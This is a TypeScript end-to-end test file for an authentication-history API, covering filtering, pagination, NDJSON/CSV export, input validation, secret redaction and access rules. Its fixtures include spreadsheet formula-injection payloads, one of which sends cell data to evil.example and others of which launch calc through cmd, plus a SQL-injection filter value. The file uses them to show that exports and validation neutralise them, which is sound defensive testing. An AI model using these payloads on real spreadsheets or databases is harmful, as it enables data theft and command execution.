/**
 * The authentication history through the Admin API, against a real server on SQLite and
 * PostgreSQL: real exchanges (granted and denied) are made first, then every filter,
 * pagination, export, validation, secrecy and access rule is checked against what was sent.
 */
import { sql } from "kysely";
import { exportJWK, generateKeyPair, SignJWT, type CryptoKey, type JWK } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AuthEventDto } from "../services/history";
import { DATABASE_KINDS, startTestServer, type TestServer } from "../../e2e/support/test-server";
import { ruleInput } from "../../e2e/support/rule-input";

const ISSUER = "https://issuer.history.test";
const AUD = "https://api.anthropic.com";
const GRANT = "urn:ietf:params:oauth:grant-type:jwt-bearer";
const APP = "repo:acme/app:ref:refs/heads/main";
const DEPLOY = "repo:acme/deploy:ref:refs/heads/main";
const ADMIN = "repo:acme/admin:ref:refs/heads/main";

/** Subjects a hostile token could carry into a spreadsheet; each must come out as text. */
const FORMULA_SUBJECTS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)*cmd|' /C calc'!A0", "\t=1+1", " =1+1"];

/** What the test sent, and so what the history must hold for it. */
interface Sent {
  requestId: string;
  outcome: "granted" | "denied";
  reason: string | null;
  rule: string | null;
  issuer: string | null;
  serviceAccount: string | null;
  workspace: string | null;
  subject: string | null;
}

interface Page<T> {
  data: T[];
  has_more: boolean;
  first_id: string | null;
  last_id: string | null;
  next_page: string | null;
}

/** RFC 4180 CSV (quoted fields, "" escapes, CRLF rows) into records keyed by the header. */
function parseCsv(text: string): Array<Record<string, string>> {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(field), (field = "");
    else if (ch === "\r" && text[i + 1] === "\n") row.push(field), rows.push(row), (row = []), (field = ""), i++;
    else field += ch;
  }
  const [header, ...body] = rows;
  return body.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ""])));
}

describe.each(DATABASE_KINDS)("authentication history API (%s)", (kind) => {
  let server: TestServer;
  let key: { privateKey: CryptoKey; jwk: JWK };
  let strangerKey: CryptoKey;
  const ids: Record<string, string> = {};
  const sent: Sent[] = [];
  /** Every assertion sent and access token received: none may appear in the history. */
  const secrets: string[] = [];
  const tokens: Record<string, string> = {};

  /** GET on the history with the admin key (or `credential`), as text and status. */
  const get = async (path: string, query: Record<string, string> = {}, credential: string | null = server.adminKey) => {
    const qs = new URLSearchParams(query).toString();
    const res = await fetch(`${server.url}/v1/organizations${path}${qs ? `?${qs}` : ""}`, { headers: credential ? { authorization: `Bearer ${credential}` } : {} });
    return { res, text: await res.text() };
  };

  const list = async (query: Record<string, string> = {}) => {
    const { res, text } = await get("/federation_auth_events", { limit: "1000", ...query });
    expect(res.status, text).toBe(200);
    return JSON.parse(text) as Page<AuthEventDto>;
  };

  const sign = (claims: Record<string, unknown>, signingKey: CryptoKey = key.privateKey) => {
    const now = Math.floor(Date.now() / 1000);
    return new SignJWT({ iss: ISSUER, sub: APP, aud: AUD, iat: now, exp: now + 300, jti: crypto.randomUUID(), ...claims }).setProtectedHeader({ alg: "RS256", kid: "k1" }).sign(signingKey);
  };

  /** Exchange an assertion and remember what the history must now say about it. */
  const exchange = async (assertion: string, expected: Omit<Sent, "requestId">, extra: Record<string, unknown> = {}) => {
    secrets.push(assertion, assertion.split(".")[2]!);
    const res = await fetch(`${server.url}/v1/oauth/token`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ grant_type: GRANT, assertion, organization_id: server.organizationId, ...extra }),
    });
    const body = (await res.json()) as { access_token?: string };
    expect(res.status).toBe(expected.outcome === "granted" ? 200 : 401);
    if (body.access_token) secrets.push(body.access_token);
    sent.push({ requestId: res.headers.get("request-id")!, ...expected });
    return body.access_token;
  };

  beforeAll(async () => {
    server = await startTestServer(kind);
    const pair = await generateKeyPair("RS256", { extractable: true });
    key = { privateKey: pair.privateKey, jwk: { ...(await exportJWK(pair.publicKey)), kid: "k1", alg: "RS256", use: "sig" } };
    strangerKey = (await generateKeyPair("RS256")).privateKey;

    ids.issuer = (await server.admin("POST", "/federation_issuers", { name: "history-issuer", issuer_url: ISSUER, jwks: { type: "inline", keys: [key.jwk] } })).id;
    ids.ci = (await server.admin("POST", "/service_accounts", { name: "ci" })).id;
    ids.deployer = (await server.admin("POST", "/service_accounts", { name: "deployer" })).id;
    ids.root = (await server.admin("POST", "/service_accounts", { name: "root", organization_role: "admin" })).id;
    ids.ws = (await server.admin("POST", "/workspaces", { name: "Production" })).id;
    await server.admin("POST", `/service_accounts/${ids.deployer}/workspaces`, { workspace_id: ids.ws, workspace_role: "workspace_developer" });
    const rule = async (name: string, serviceAccount: string, subject: string, extra: Record<string, unknown> = {}) =>
      (await server.admin("POST", "/federation_rules", ruleInput(name, ids.issuer!, serviceAccount, subject, extra))).id;
    ids.app = await rule("app", ids.ci, APP);
    ids.deploy = await rule("deploy", ids.deployer, "repo:acme/deploy:*", { workspace_id: ids.ws });
    ids.admin = await rule("admin", ids.root, ADMIN, { oauth_scope: "org:admin" });
    ids.defaultWs = (await server.runtime.store.db.selectFrom("workspaces").select("id").where("is_default", "=", 1).executeTakeFirstOrThrow()).id;

    const onApp = { rule: ids.app, issuer: ids.issuer, serviceAccount: ids.ci, workspace: null };
    const onDeploy = { rule: ids.deploy, issuer: ids.issuer, serviceAccount: ids.deployer, workspace: null };
    tokens.developer = (await exchange(await sign({}), { outcome: "granted", reason: null, ...onApp, workspace: ids.defaultWs, subject: APP }, { federation_rule_id: ids.app }))!;
    await exchange(await sign({ sub: DEPLOY }), { outcome: "granted", reason: null, ...onDeploy, workspace: ids.ws, subject: DEPLOY }, { federation_rule_id: ids.deploy });
    tokens.orgAdmin = (await exchange(await sign({ sub: ADMIN }), { outcome: "granted", reason: null, rule: ids.admin, issuer: ids.issuer, serviceAccount: ids.root, workspace: ids.defaultWs, subject: ADMIN }, { federation_rule_id: ids.admin }))!;
    const pr = "repo:acme/app:pull_request";
    await exchange(await sign({ sub: pr }), { outcome: "denied", reason: "match_subject_prefix", ...onApp, subject: pr }, { federation_rule_id: ids.app });
    await exchange(await sign({ aud: "sts.amazonaws.com" }), { outcome: "denied", reason: "audience_mismatch", ...onApp, subject: APP }, { federation_rule_id: ids.app });
    await exchange(await sign({ sub: "repo:acme/deploy:pull_request", aud: "https://elsewhere.test" }), { outcome: "denied", reason: "audience_mismatch", ...onDeploy, subject: "repo:acme/deploy:pull_request" }, { federation_rule_id: ids.deploy });
    await exchange(await sign({}), { outcome: "denied", reason: "rule_not_found", rule: null, issuer: null, serviceAccount: null, workspace: null, subject: null }, { federation_rule_id: "fdrl_01UNKNOWN" });
    const wildcards = "repo:acme/100%_Sure:ref:refs/heads/main";
    await exchange(await sign({ sub: wildcards }), { outcome: "denied", reason: "match_subject_prefix", ...onApp, subject: wildcards }, { federation_rule_id: ids.app });
    // Signed by a stranger: refused, yet its (unverified) subject is recorded — hostile text included.
    for (const subject of FORMULA_SUBJECTS) {
      await exchange(await sign({ sub: subject }, strangerKey), { outcome: "denied", reason: "signature_invalid", ...onApp, subject }, { federation_rule_id: ids.app });
    }
  });
  afterAll(async () => server?.close());

  const requestIds = (events: Array<{ request_id: string }>) => events.map((e) => e.request_id).sort();
  const sentIds = (keep: (s: Sent) => boolean) => sent.filter(keep).map((s) => s.requestId).sort();

  it("records every exchange, newest first, with what it referred to", async () => {
    const all = await list();
    expect(requestIds(all.data)).toEqual(sentIds(() => true));
    const eventIds = all.data.map((e) => e.id);
    expect(eventIds).toEqual([...eventIds].sort().reverse());
    for (const s of sent) {
      const e = all.data.find((x) => x.request_id === s.requestId)!;
      expect(e).toMatchObject({ outcome: s.outcome, reason: s.reason, federation_rule_id: s.rule, issuer_id: s.issuer, service_account_id: s.serviceAccount, workspace_id: s.workspace, subject: s.subject });
    }
    const deploy = all.data.find((e) => e.subject === DEPLOY)!;
    expect(deploy).toMatchObject({ federation_rule_name: "deploy", issuer_name: "history-issuer", service_account_name: "deployer", workspace_name: "Production" });
  });

  it("replies carry the DTO's fields only", async () => {
    const { data } = await list({ limit: "1" });
    const fields = "id type occurred_at request_id outcome reason reason_title detail federation_rule_id federation_rule_name issuer_id issuer_name service_account_id service_account_name workspace_id workspace_name subject claims claims_unreadable claims_verified client_ip";
    expect(Object.keys(data[0]!).sort()).toEqual(fields.split(" ").sort());
  });

  const filterCases: Array<{ name: string; query: () => Record<string, string>; keep: (s: Sent) => boolean }> = [
    { name: "outcome=granted", query: () => ({ outcome: "granted" }), keep: (s) => s.outcome === "granted" },
    { name: "outcome=denied", query: () => ({ outcome: "denied" }), keep: (s) => s.outcome === "denied" },
    { name: "reason", query: () => ({ reason: "audience_mismatch" }), keep: (s) => s.reason === "audience_mismatch" },
    { name: "issuer_id", query: () => ({ issuer_id: ids.issuer! }), keep: (s) => s.issuer === ids.issuer },
    { name: "federation_rule_id", query: () => ({ federation_rule_id: ids.deploy! }), keep: (s) => s.rule === ids.deploy },
    { name: "service_account_id", query: () => ({ service_account_id: ids.root! }), keep: (s) => s.serviceAccount === ids.root },
    { name: "workspace_id", query: () => ({ workspace_id: ids.ws! }), keep: (s) => s.workspace === ids.ws },
    { name: "request_id", query: () => ({ request_id: sent[3]!.requestId }), keep: (s) => s.requestId === sent[3]!.requestId },
    { name: "q: subject substring, any case", query: () => ({ q: "ACME/Deploy" }), keep: (s) => !!s.subject?.toLowerCase().includes("acme/deploy") },
    { name: "q: LIKE wildcards match themselves", query: () => ({ q: "100%_s" }), keep: (s) => !!s.subject?.includes("100%_Sure") },
    { name: "q: a lone % is literal", query: () => ({ q: "%" }), keep: (s) => !!s.subject?.includes("%") },
    { name: "q: a lone _ is literal", query: () => ({ q: "_" }), keep: (s) => !!s.subject?.includes("_") },
    { name: "filters combine", query: () => ({ outcome: "denied", federation_rule_id: ids.app!, reason: "match_subject_prefix" }), keep: (s) => s.outcome === "denied" && s.rule === ids.app && s.reason === "match_subject_prefix" },
  ];

  it.each(filterCases)("narrows by $name", async ({ query, keep }) => {
    const expected = sentIds(keep);
    expect(expected.length).toBeGreaterThan(0);
    expect(expected.length).toBeLessThan(sent.length);
    expect(requestIds((await list(query())).data)).toEqual(expected);
  });

  it("narrows by time: since inclusive, until exclusive", async () => {
    const all = (await list()).data; // newest first
    const since = all[all.length - 3]!.occurred_at;
    const until = all[2]!.occurred_at;
    const expected = all.filter((e) => e.occurred_at >= since && e.occurred_at < until);
    expect(expected.length).toBeGreaterThan(0);
    expect(expected.length).toBeLessThan(all.length);
    expect(requestIds((await list({ since, until })).data)).toEqual(requestIds(expected));
    // Other ISO spellings of the same instant mean the same.
    const offset = new Date(since).toISOString().replace("Z", "+00:00");
    expect(requestIds((await list({ since: offset, until })).data)).toEqual(requestIds(expected));
  });

  it.each<{ query: Record<string, string> }>([{ query: {} }, { query: { outcome: "denied" } }])("walks every page with after_id, newest first, no gaps or repeats ($query)", async ({ query }) => {
    const full = (await list(query)).data.map((e) => e.id);
    const walked: string[] = [];
    let after: string | undefined;
    for (let guard = 0; guard < 50; guard++) {
      const page = await list({ ...query, limit: "3", ...(after ? { after_id: after } : {}) });
      expect(page.first_id).toBe(page.data[0]?.id ?? null);
      expect(page.last_id).toBe(page.data.at(-1)?.id ?? null);
      walked.push(...page.data.map((e) => e.id));
      if (!page.has_more) break;
      expect(page.data).toHaveLength(3);
      after = page.last_id!;
    }
    expect(walked).toEqual(full);
    expect(new Set(walked).size).toBe(walked.length);
  });

  it("walks back up with before_id, and follows next_page cursors", async () => {
    const full = (await list()).data.map((e) => e.id);
    const upward: string[] = [];
    let before = full.at(-1)!;
    for (let guard = 0; guard < 50; guard++) {
      const page = await list({ limit: "4", before_id: before });
      const pageIds = page.data.map((e) => e.id);
      expect(pageIds).toEqual([...pageIds].sort().reverse()); // newest first within the page
      upward.unshift(...pageIds);
      if (!page.has_more) break;
      before = page.first_id!;
    }
    expect(upward).toEqual(full.slice(0, -1));

    const cursored: string[] = [];
    let next: string | null = null;
    do {
      const page: Page<AuthEventDto> = await list({ limit: "5", ...(next ? { page: next } : {}) });
      cursored.push(...page.data.map((e) => e.id));
      next = page.next_page;
    } while (next);
    expect(cursored).toEqual(full);
  });

  it("retrieves one event by ID, and 404s an unknown one", async () => {
    const { data } = await list({ request_id: sent[3]!.requestId });
    const one = await get(`/federation_auth_events/${data[0]!.id}`);
    expect(JSON.parse(one.text)).toEqual(data[0]);
    const missing = await get("/federation_auth_events/authev_01UNKNOWN");
    expect(missing.res.status).toBe(404);
  });

  it("exports the filtered set as NDJSON", async () => {
    const query = { outcome: "denied", federation_rule_id: ids.app! };
    const { res, text } = await get("/federation_auth_events", { ...query, format: "ndjson" });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^application\/x-ndjson/);
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="auth-events.ndjson"');
    const lines = text.trimEnd().split("\n").map((l) => JSON.parse(l) as AuthEventDto);
    expect(lines).toEqual((await list(query)).data);
    expect(requestIds(lines)).toEqual(sentIds((s) => s.outcome === "denied" && s.rule === ids.app));
  });

  it("exports the filtered set as CSV", async () => {
    const query = { reason: "signature_invalid" };
    const { res, text } = await get("/federation_auth_events", { ...query, format: "csv" });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="auth-events.csv"');
    const rows = parseCsv(text);
    expect(rows.map((r) => r.request_id)).toEqual((await list(query)).data.map((e) => e.request_id));
    expect(rows.map((r) => r.request_id).sort()).toEqual(sentIds((s) => s.reason === "signature_invalid"));
    const all = parseCsv((await get("/federation_auth_events", { format: "csv" })).text);
    expect(all.map((r) => r.request_id).sort()).toEqual(sentIds(() => true));
  });

  it.each(FORMULA_SUBJECTS.map((subject) => ({ subject })))("CSV shows the hostile subject $subject as text", async ({ subject }) => {
    const requestId = sent.find((s) => s.subject === subject)!.requestId;
    const [row] = parseCsv((await get("/federation_auth_events", { request_id: requestId, format: "csv" })).text);
    expect(row!.subject).toBe(`'${subject}`);
    // NDJSON is data, not a spreadsheet: the subject stays as recorded.
    const line = JSON.parse((await get("/federation_auth_events", { request_id: requestId, format: "ndjson" })).text) as AuthEventDto;
    expect(line.subject).toBe(subject);
  });

  const invalid: Array<{ name: string; query: Record<string, string>; field: string }> = [
    { name: "unknown outcome", query: { outcome: "maybe" }, field: "outcome" },
    { name: "reason outside the closed set", query: { reason: "because" }, field: "reason" },
    { name: "issuer_id of another kind", query: { issuer_id: "fdrl_01ABC" }, field: "issuer_id" },
    { name: "federation_rule_id not an ID", query: { federation_rule_id: "app" }, field: "federation_rule_id" },
    { name: "service_account_id with SQL", query: { service_account_id: "svac_1' OR '1'='1" }, field: "service_account_id" },
    { name: "workspace_id alias", query: { workspace_id: "default" }, field: "workspace_id" },
    { name: "request_id not an ID", query: { request_id: "12345" }, field: "request_id" },
    { name: "since not a time", query: { since: "yesterday" }, field: "since" },
    { name: "until before since", query: { since: "2026-01-02T00:00:00Z", until: "2026-01-01T00:00:00Z" }, field: "until" },
    { name: "q over 256 characters", query: { q: "x".repeat(257) }, field: "q" },
    { name: "limit 0", query: { limit: "0" }, field: "limit" },
    { name: "limit not a number", query: { limit: "ten" }, field: "limit" },
    { name: "after_id and before_id together", query: { after_id: "authev_1", before_id: "authev_2" }, field: "before_id" },
    { name: "forged page cursor", query: { page: "not-a-cursor" }, field: "page" },
    { name: "unknown export format", query: { format: "xlsx" }, field: "format" },
    { name: "export with an invalid filter", query: { format: "csv", reason: "because" }, field: "reason" },
  ];

  it.each(invalid)("400 naming the field: $name", async ({ query, field }) => {
    const { res, text } = await get("/federation_auth_events", query);
    expect(res.status).toBe(400);
    const body = JSON.parse(text) as { type: string; error: { type: string; message: string } };
    expect(body.error.type).toBe("invalid_request_error");
    expect(body.error.message.startsWith(`${field}: `), body.error.message).toBe(true);
  });

  it("an update's audit entry holds what changed, before and after, not every field sent", async () => {
    const rule = await server.admin("POST", "/federation_rules", ruleInput("audited", ids.issuer!, ids.ci!, APP, { oauth_scope: "workspace:inference", workspace_id: ids.ws }));
    // A form sends every field (an empty description for none); only the scope and the lifetime differ.
    await server.admin("POST", `/federation_rules/${rule.id}`, { name: "audited", description: "", match: { subject_prefix: APP }, oauth_scope: "workspace:developer", token_lifetime_seconds: 900 });
    const { data } = JSON.parse((await get("/audit_events", { limit: "1000" })).text) as { data: Array<{ action: string; target_id: string; detail: unknown }> };
    const entry = data.find((e) => e.action === "federation_rule.updated" && e.target_id === rule.id);
    expect(entry?.detail).toEqual({
      changed: { oauth_scope: { from: "workspace:inference", to: "workspace:developer" }, token_lifetime_seconds: { from: 3600, to: 900 } },
    });
  });

  it("never holds an assertion or an access token, in any view", async () => {
    expect(secrets.length).toBeGreaterThan(sent.length);
    const all = await list();
    const views = [
      JSON.stringify(all),
      ...(await Promise.all(all.data.map(async (e) => (await get(`/federation_auth_events/${e.id}`)).text))),
      (await get("/federation_auth_events", { format: "ndjson" })).text,
      (await get("/federation_auth_events", { format: "csv" })).text,
      (await get("/audit_events", { limit: "1000" })).text,
    ];
    // The rows themselves too, beyond what the API shows.
    views.push(JSON.stringify(await server.runtime.store.db.selectFrom("auth_events").selectAll().execute()));
    for (const view of views) for (const secret of secrets) expect(view.includes(secret), `history contains ${secret.slice(0, 24)}…`).toBe(false);
    // And the claims recorded are the token's claims: non-empty for a verified grant.
    expect(all.data.find((e) => e.outcome === "granted")!.claims).toMatchObject({ iss: ISSUER, aud: AUD });
  });

  const access: Array<{ name: string; credential: () => string | null; status: number }> = [
    { name: "no credential", credential: () => null, status: 401 },
    { name: "a made-up admin key", credential: () => `sk-ant-admin01-${"A".repeat(43)}`, status: 401 },
    { name: "a workspace API key", credential: () => tokens.apiKey!, status: 403 },
    { name: "a federated token with workspace scope", credential: () => tokens.developer!, status: 403 },
    { name: "a federated token with org:admin", credential: () => tokens.orgAdmin!, status: 200 },
    { name: "an admin key", credential: () => server.adminKey, status: 200 },
  ];

  it.each(access)("access with $name → $status", async ({ credential, status }) => {
    tokens.apiKey ??= ((await server.admin("POST", "/api_keys", { name: "legacy" })) as unknown as { key: string }).key;
    const eventId = (await list({ limit: "1" })).data[0]!.id;
    for (const [path, query] of [
      ["/federation_auth_events", {}],
      [`/federation_auth_events/${eventId}`, {}],
      ["/federation_auth_events", { format: "ndjson" }],
      ["/federation_auth_events", { format: "csv" }],
      ["/audit_events", {}],
    ] as const) {
      const { res, text } = await get(path, query, credential());
      expect(res.status, `${path} ${JSON.stringify(query)}: ${text.slice(0, 200)}`).toBe(status);
      if (status !== 200) expect(text).not.toContain(sent[0]!.requestId);
    }
  });
});

// The export's loop is the same on both stores (keyset pages of 500, covered on both by the
// tests above); 50,001 events are generated on SQLite only, where it takes about a second.
describe("exporting a large history (sqlite)", () => {
  it("exports every matching event, however many (past 50,000, the cap it once had)", async () => {
    const server = await startTestServer("sqlite");
    try {
      const count = 50_001;
      const ruleId = "fdrl_01BULKEXPORT00000000000000";
      await sql`with recursive n(i) as (select 1 union all select i + 1 from n where i < ${count})
        insert into auth_events (id, organization_id, occurred_at, request_id, outcome, reason, federation_rule_id, claims_verified)
        select 'authev_bulk' || printf('%06d', i), ${server.organizationId}, ${new Date().toISOString()}, 'req_bulk' || printf('%06d', i), 'denied', 'match_claims', ${ruleId}, 0 from n`.execute(
        server.runtime.store.db,
      );
      const res = await fetch(`${server.url}/v1/organizations/federation_auth_events?federation_rule_id=${ruleId}&format=ndjson`, { headers: { authorization: `Bearer ${server.adminKey}` } });
      expect(res.status).toBe(200);
      const lines = (await res.text()).trimEnd().split("\n");
      expect(lines).toHaveLength(count);
      expect(JSON.parse(lines[0]!)).toMatchObject({ request_id: "req_bulk050001" });
      expect(JSON.parse(lines[count - 1]!)).toMatchObject({ request_id: "req_bulk000001" });
    } finally {
      await server.close();
    }
  });
});
